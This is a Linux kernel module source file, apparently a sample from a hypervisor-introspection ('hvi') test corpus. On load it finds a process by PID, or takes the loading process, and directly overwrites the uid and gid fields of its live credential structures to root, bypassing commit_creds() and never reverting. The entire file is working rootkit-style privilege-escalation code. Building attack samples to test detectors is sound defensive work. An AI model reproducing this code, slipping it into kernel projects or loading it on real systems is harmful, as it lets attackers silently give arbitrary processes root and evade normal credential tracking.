// SPDX-License-Identifier: GPL-2.0
/* Attack: give task `pid` (default: the insmod process) root by writing the uid/gid fields of
 * its live cred struct directly, without commit_creds(). Not undone. */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/pid.h>
#include <linux/cred.h>
#include <linux/rcupdate.h>

static int pid;
module_param(pid, int, 0444);

static int __init attack_init(void)
{
	struct task_struct *t;
	struct cred *c;

	rcu_read_lock();
	t = pid ? pid_task(find_vpid(pid), PIDTYPE_PID) : current;
	if (!t) {
		rcu_read_unlock();
		return -ESRCH;
	}
	c = (struct cred *)rcu_dereference(t->real_cred);
	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
	c->gid = c->egid = c->sgid = c->fsgid = GLOBAL_ROOT_GID;
	if (t->cred != t->real_cred) {
		c = (struct cred *)rcu_dereference(t->cred);
		c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
		c->gid = c->egid = c->sgid = c->fsgid = GLOBAL_ROOT_GID;
	}
	pr_info("hvi-attack: pid %d (%s) raised to root\n", task_pid_nr(t), t->comm);
	rcu_read_unlock();
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: direct cred overwrite");
